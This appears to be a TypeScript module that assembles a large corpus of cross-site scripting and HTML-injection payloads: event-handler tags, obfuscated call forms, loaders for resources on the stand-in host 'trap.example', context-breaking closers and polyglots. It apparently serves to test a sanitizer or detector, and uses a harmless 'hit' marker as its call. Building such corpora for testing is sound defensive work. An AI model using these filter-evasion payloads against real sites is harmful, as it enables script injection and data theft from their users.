/** Payloads that are made by putting parts together: how a tag is written, how code is hidden, where it breaks out. */
const separators = [
  ' ',
  '/',
  '\n',
  '\t',
  '\f',
  '\r',
  ' / ',
  '\n/\t',
  '\u00a0',
  '//',
  ' x ',
  ' x=">" ',
  " x='\"' ",
];
const starts = ['img src=x', 'svg', 'details open', 'input autofocus', 'video src=x', 'body', 'iframe'];
const events = ['onerror', 'onload', 'ontoggle', 'onfocus', 'onerror', 'onpageshow', 'onload'];
const quotings = [(code: string) => code, (code: string) => `"${code}"`, (code: string) => `'${code}'`];

/** Every separator with every element, quoted in turn. */
const written = separators.flatMap((separator, row) =>
  starts.map((start, column) => {
    const quoted = quotings[(row + column) % quotings.length]!('¤');
    return `<${start}${separator}${events[column]}${row % 2 ? ' = ' : '='}${quoted}>`;
  }),
);

/** The same call, as filters do not expect it. */
const calls = [
  "window['h'+'it'](§)",
  'top.hit(§)',
  '(0,hit)(§)',
  '[§].map(hit)',
  '&#104;&#105;&#116;(§)',
  '&#x68;it&lpar;§&rpar;',
  '\\u0068it(§)',
  'Function("hit(§)")()',
  "setTimeout('hit(§)')",
  'import(`data:text/javascript,hit(§)`)',
  '{hit(§)}//',
  ';;hit(§);;',
  'hit(§)<!--',
  'this.hit?.(§)',
  'Reflect.apply(hit,0,[§])',
];
const around = [
  '<img src=x onerror=¤>',
  '<svg onload="¤">',
  '<script>¤</script>',
  '<a href="javascript:¤">x</a>',
  "\"><img src=x onerror='¤'>",
];
const hidden = calls.flatMap((call) => around.map((place) => place.replace('¤', call)));

/** What asks another host for something without running anything. `§` keeps every address apart. */
const fetching = [
  '<img src="https://trap.example/§">',
  '<img src=//trap.example/§>',
  '<img src="\\\\trap.example\\§">',
  '<img src="/\\trap.example/§">',
  '<img src="https:trap.example/§">',
  '<img srcset="https://trap.example/§ 1x">',
  '<picture><source srcset="https://trap.example/§"><img src="/favicon.svg"></picture>',
  '<video poster="https://trap.example/§"></video>',
  '<video autoplay src="https://trap.example/§"></video>',
  '<audio autoplay src="https://trap.example/§"></audio>',
  '<input type=image src="https://trap.example/§">',
  '<object data="https://trap.example/§"></object>',
  '<embed src="https://trap.example/§">',
  '<iframe src="https://trap.example/§"></iframe>',
  '<iframe src="https://www.youtube-nocookie.com@trap.example/embed/§"></iframe>',
  '<link rel=stylesheet href="https://trap.example/§">',
  '<link rel=preload as=image href="https://trap.example/§">',
  '<link rel=prefetch href="https://trap.example/§">',
  '<link rel=icon href="https://trap.example/§">',
  '<style>@import "https://trap.example/§";</style>',
  '<style>*{background:url(https://trap.example/§)}</style>',
  '<p style="background-image:url(https://trap.example/§)">x</p>',
  '<table background="https://trap.example/§"><tr><td>x</table>',
  '<svg><image href="https://trap.example/§"/></svg>',
  '<svg><use href="https://trap.example/§#a"/></svg>',
  '<svg><feImage href="https://trap.example/§"/></svg>',
  '<meta http-equiv=refresh content="0;url=https://trap.example/§">',
  '<script src="https://trap.example/§"></script>',
  '<form action="https://trap.example/§"><button autofocus>x</button></form>',
  '![x](https://trap.example/§)',
  '[x](javascript:hit(§))',
];

/** Words that would end the place they stand in, whatever it is: attribute, script, style, comment, XML or a line. */
const closers = [
  '"',
  "'",
  '`',
  '</p>',
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '?>',
  '\r\n',
];
const breaking = closers.flatMap((closer) => [
  `${closer}><svg/onload=¤>`,
  `x${closer} onmouseover=¤ y=${closer}`,
  `${closer}<base href=//trap.example/§><script>¤</script>`,
]);

const polyglots = [
  '\'"`--></style></script></title></textarea><svg/onload=¤><img src=x onerror=¤>',
  'javascript:"/*\'/*`/*--></noscript></title></textarea></style></template></select></script><details open ontoggle=¤>',
  '{{¤}}${¤}<%=¤%>#{¤}[[¤]]<svg onload=¤>',
  'END:VEVENT\r\nBEGIN:VALARM\r\nATTACH:https://trap.example/§\r\n<svg onload=¤>',
  ']]></content><script xmlns="http://www.w3.org/1999/xhtml">¤</script><![CDATA[',
  '&lt;/content&gt;&lt;script&gt;¤&lt;/script&gt;',
  '\u2028¤\u2029</script><script>¤//',
];

export const combined = [...written, ...hidden, ...fetching, ...breaking, ...polyglots];
